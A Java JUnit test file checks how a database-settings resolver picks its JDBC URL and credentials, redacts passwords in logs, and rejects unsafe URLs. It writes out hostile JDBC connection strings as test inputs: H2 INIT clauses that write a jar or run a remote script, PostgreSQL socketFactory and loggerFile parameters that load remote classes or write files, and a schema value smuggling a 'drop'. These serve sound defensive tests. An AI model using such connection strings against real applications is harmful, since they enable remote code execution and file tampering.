package io.lanvan.persistence.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.lang.annotation.Annotation;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class DatabaseSettingsTest {
    private static final Path FALLBACK = Path.of("/var/lib/bundle-data");

    @Test
    void theConfigurationWinsOverTheLauncherUrlAndTheEnvironment() {
        DatabaseSettings settings = DatabaseSettings.resolve(
                config("jdbc:postgresql://db:5432/lanvan", "app", "s3cret", "audit"),
                Map.of("lanvan.db.url", "jdbc:postgresql://other/x")::get,
                Map.of("LANVAN_DB_USER", "envuser", "LANVAN_DB_PASSWORD", "envpass")::get, FALLBACK);

        assertEquals(DatabaseKind.POSTGRESQL, settings.kind());
        assertEquals("jdbc:postgresql://db:5432/lanvan", settings.jdbcUrl());
        assertEquals("app", settings.user());
        assertEquals("s3cret", settings.password());
        assertEquals(Optional.of("audit"), settings.schema());
    }

    @Test
    void withoutAConfiguredUrlTheLauncherUrlIsUsedWithTheEnvironmentsCredentials() {
        DatabaseSettings settings = DatabaseSettings.resolve(config("", "ignored", "ignored", ""),
                Map.of("lanvan.db.url", "jdbc:postgresql://db/lanvan", "lanvan.data", "/srv/lanvan/data")::get,
                Map.of("LANVAN_DB_USER", "envuser", "LANVAN_DB_PASSWORD", "envpass")::get, FALLBACK);

        assertEquals("jdbc:postgresql://db/lanvan", settings.jdbcUrl());
        assertEquals("envuser", settings.user());
        assertEquals("envpass", settings.password());
        assertEquals(Optional.empty(), settings.schema());
    }

    @Test
    void withNothingConfiguredAnH2FileUnderTheDataFolderIsUsed() {
        DatabaseSettings withDataDir = DatabaseSettings.resolve(config("", "", "", ""),
                Map.of("lanvan.data", "/srv/lanvan/data")::get, Map.<String, String>of()::get, FALLBACK);
        DatabaseSettings withoutDataDir = DatabaseSettings.resolve(config("", "", "", ""),
                Map.<String, String>of()::get, Map.<String, String>of()::get, FALLBACK);

        assertEquals(DatabaseKind.H2, withDataDir.kind());
        assertEquals("jdbc:h2:file:/srv/lanvan/data/db/lanvan", withDataDir.jdbcUrl());
        assertEquals("jdbc:h2:file:/var/lib/bundle-data/db/lanvan", withoutDataDir.jdbcUrl());
    }

    @Test
    void descriptionsForTheLogNeverShowThePassword() {
        DatabaseSettings settings = DatabaseSettings.resolve(
                config("jdbc:postgresql://db/lanvan?user=app&password=querysecret&ssl=true", "app", "s3cret", ""),
                Map.<String, String>of()::get, Map.<String, String>of()::get, FALLBACK);

        String described = settings.describe() + " " + settings;
        assertFalse(described.contains("s3cret"), described);
        assertFalse(described.contains("querysecret"), described);
        assertTrue(described.contains("ssl=true"), described);
        assertFalse(DatabaseSettings.redact("jdbc:postgresql://app:urlsecret@db/lanvan").contains("urlsecret"));
    }

    @Test
    void invalidSettingsAreRefusedNamingTheField() {
        IllegalArgumentException url = assertThrows(IllegalArgumentException.class, () -> DatabaseSettings.resolve(
                config("jdbc:mysql://db/x", "", "", ""), Map.<String, String>of()::get, Map.<String, String>of()::get, FALLBACK));
        IllegalArgumentException schema = assertThrows(IllegalArgumentException.class, () -> DatabaseSettings.resolve(
                config("", "", "", "Audit; drop"), Map.<String, String>of()::get, Map.<String, String>of()::get, FALLBACK));

        assertTrue(url.getMessage().startsWith("jdbcUrl"), url.getMessage());
        assertTrue(schema.getMessage().startsWith("schema must be"), schema.getMessage());
    }

    @Test
    void anH2UrlThatRunsSqlOnConnectIsRefusedNamingTheSetting() {
        String attack = "jdbc:h2:mem:x;INIT=CALL FILE_WRITE(X'504b03', '/srv/lanvan/plugins/x.jar')";

        IllegalArgumentException fromConfig = assertThrows(IllegalArgumentException.class,
                () -> resolveWithDataDir(config(attack, "", "", ""), Map.of()));
        IllegalArgumentException fromLauncher = assertThrows(IllegalArgumentException.class,
                () -> resolveWithDataDir(config("", "", "", ""), Map.of("lanvan.db.url", attack)));

        assertTrue(fromConfig.getMessage().startsWith("jdbcUrl"), fromConfig.getMessage());
        assertTrue(fromLauncher.getMessage().startsWith("LANVAN_DB_URL"), fromLauncher.getMessage());
    }

    @Test
    void h2FilesOutsideTheDataFolderOrWithOptionsAreRefused() {
        for (String url : List.of("jdbc:h2:file:/srv/lanvan/data/db/lanvan;INIT=RUNSCRIPT FROM 'http://x/y.sql'",
                "jdbc:h2:file:/srv/lanvan/data/db/lanvan;AUTO_SERVER=TRUE",
                "jdbc:h2:file:/srv/lanvan/data/../plugins/x", "jdbc:h2:file:/tmp/lanvan", "jdbc:h2:file:~/lanvan",
                "jdbc:h2:file:db/lanvan", "jdbc:h2:mem:lanvan", "jdbc:h2:tcp://10.0.0.1/lanvan",
                "jdbc:h2:/srv/lanvan/data/db/lanvan", "jdbc:h2:file:nio:/srv/lanvan/data/db/lanvan",
                "jdbc:h2:zip:/srv/lanvan/data/db.zip!/lanvan")) {
            assertThrows(IllegalArgumentException.class, () -> resolveWithDataDir(config(url, "", "", ""), Map.of()), url);
        }
    }

    @Test
    void anH2FileUnderTheDataFolderIsAccepted() {
        DatabaseSettings settings = resolveWithDataDir(config("jdbc:h2:file:/srv/lanvan/data/db/other", "sa", "", ""), Map.of());

        assertEquals("jdbc:h2:file:/srv/lanvan/data/db/other", settings.jdbcUrl());
    }

    @Test
    void postgresqlParametersThatLoadClassesOrWriteFilesAreRefused() {
        for (String url : List.of("jdbc:postgresql://db/lanvan?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://10.0.0.1/x.xml",
                "jdbc:postgresql://db/lanvan?sslfactory=x.Y", "jdbc:postgresql://db/lanvan?loggerLevel=TRACE&loggerFile=/srv/lanvan/plugins/x.jar",
                "jdbc:postgresql://db/lanvan?authenticationPluginClassName=x.Y", "jdbc:postgresql://db/lanvan?sslhostnameverifier=x.Y",
                "jdbc:postgresql://db/lanvan?sslpasswordcallback=x.Y", "jdbc:postgresql://db/lanvan?sslmode=require&sslmode=disable",
                "jdbc:postgresql://db/lanvan?sslmode=sometimes", "jdbc:postgresql://db/lanvan?sslrootcert=/etc/shadow",
                "jdbc:postgresql://db/lanvan?connectTimeout=forever", "jdbc:postgresql://a,b/lanvan",
                "jdbc:postgresql://db:99999/lanvan", "jdbc:postgresql:lanvan", "jdbc:postgresql://db/lan%20van",
                "jdbc:postgresql://db/lanvan;sslmode=require", "jdbc:postgresql://db/lanvan?options=-c%20log_statement=all",
                "jdbc:pgsql://db/lanvan", "jdbc:mysql://db/lanvan")) {
            IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
                    () -> resolveWithDataDir(config(url, "", "", ""), Map.of()), url);
            assertTrue(refused.getMessage().startsWith("jdbcUrl"), refused.getMessage());
        }
    }

    @Test
    void postgresqlWithAHostAPortADatabaseAndAllowedParametersIsAccepted() {
        for (String url : List.of("jdbc:postgresql://db.example.internal:5432/lanvan",
                "jdbc:postgresql://127.0.0.1/test", "jdbc:postgresql://[::1]:5432/test",
                "jdbc:postgresql://db/lanvan?sslmode=verify-full&sslrootcert=/srv/lanvan/etc/db-ca.crt"
                        + "&connectTimeout=10&socketTimeout=60&ApplicationName=LANVan-2&tcpKeepAlive=true",
                "jdbc:postgresql://db/lanvan?sslmode=verify-ca&sslrootcert=/srv/lanvan/data/tls/db-ca.crt")) {
            assertEquals(url, resolveWithDataDir(config(url, "", "", ""), Map.of()).jdbcUrl());
        }
    }

    private static DatabaseSettings resolveWithDataDir(PersistenceConfig config, Map<String, String> launcher) {
        Map<String, String> properties = new java.util.HashMap<>(launcher);
        properties.put("lanvan.data", "/srv/lanvan/data");
        properties.put("lanvan.home", "/srv/lanvan");
        return DatabaseSettings.resolve(config, properties::get, Map.<String, String>of()::get, FALLBACK);
    }

    private static PersistenceConfig config(String jdbcUrl, String user, String password, String schema) {
        return new PersistenceConfig() {
            @Override
            public Class<? extends Annotation> annotationType() {
                return PersistenceConfig.class;
            }

            @Override
            public String jdbcUrl() {
                return jdbcUrl;
            }

            @Override
            public String user() {
                return user;
            }

            @Override
            public String password() {
                return password;
            }

            @Override
            public int maxPoolSize() {
                return 10;
            }

            @Override
            public String schema() {
                return schema;
            }
        };
    }
}
